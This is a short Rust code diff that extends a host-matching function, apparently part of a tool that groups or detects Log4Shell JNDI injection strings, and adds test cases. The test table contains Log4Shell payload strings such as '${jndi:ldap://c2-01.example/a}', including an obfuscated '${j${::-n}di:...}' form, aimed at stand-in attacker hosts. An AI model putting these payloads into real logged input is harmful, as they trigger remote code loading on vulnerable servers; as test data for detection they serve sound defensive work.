@@ -66,6 +66,12 @@ fn same_place(place: &str) -> Option<String> {
     if host.parse::<Ipv4Addr>().is_ok() {
         return Some(place.to_owned());
     }
+    // `localhost:1389`, and behind the brackets of an address.
+    let digits = port.strip_prefix(':').unwrap_or_default();
+    let is_port = (1..=5).contains(&digits.len()) && digits.bytes().all(|byte| byte.is_ascii_digit());
+    if is_port && !host.contains('.') {
+        return Some(place.to_owned());
+    }
     let is_name = place.contains('.') && place.contains(|c: char| c.is_ascii_alphabetic());
     let same_label = |label: &str| {
         let is_number = !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_digit());
@@ -86,6 +92,11 @@ mod tests {
             ("${jndi:ldap://c2-01.example/a}", "${jndi:ldap://c2-02.example/a}"),
             ("${jndi:ldap://203.0.113.9:1389/a}", "${jndi:ldap://203.0.113.9:4444/a}"),
             ("${jndi:dns:web-1.example}", "${jndi:dns:web-2.example}"),
+            ("${jndi:ldap://localhost:1389/a}", "${jndi:ldap://localhost:4444/a}"),
+            (
+                "${jndi:ldap://[2001:db8::1]:1389/a}",
+                "${jndi:ldap://[2001:db8::1]:4444/a}",
+            ),
             (
                 "${j${::-n}di:l${x}p${::-:}//c2-01.example/a}",
                 "${j${::-n}di:l${x}p${::-:}//c2-02.example/a}",
